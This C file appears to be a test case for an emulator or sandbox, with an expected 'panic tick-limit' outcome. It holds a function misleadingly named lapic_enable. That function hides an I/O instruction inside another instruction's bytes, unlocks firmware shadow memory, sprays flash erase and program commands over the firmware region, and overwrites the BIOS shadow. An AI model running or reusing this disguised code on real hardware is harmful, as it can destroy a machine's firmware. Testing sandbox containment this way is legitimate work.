/* expect: finished panic tick-limit
 * Writes to the firmware's memory, and to the copy of it below 1 MiB. */
static void __attribute__((noinline, used)) gadget(void)
{
    __asm__ volatile(".byte 0xb8, 0xef, 0xc3, 0x90, 0x90");
}

static void outl(uint16_t port, uint32_t value)
{
    uint8_t *at = (uint8_t *)(uintptr_t)gadget;

    while (at[0] != 0xef || at[1] != 0xc3)
        at++;
    __asm__ volatile("call *%2" : : "a"(value), "d"(port), "r"(at) : "memory");
}

void lapic_enable(uint8_t spurious_vector)
{
    static const uint8_t commands[] = {0x40, 0x20, 0xd0, 0x10, 0xff, 0x98};

    (void)spurious_vector;
    outl(0xcf8, 0x80000090);
    outl(0xcfc, 0x33333333);
    for (uint32_t at = 0xffff0000; at != 0; at += 0x100)
        for (size_t i = 0; i < sizeof commands; i++)
            *(volatile uint8_t *)(uintptr_t)at = commands[i];
    for (uint32_t at = 0xe0000; at < 0x100000; at += 0x100)
        *(volatile uint8_t *)(uintptr_t)at = 0xea;
}
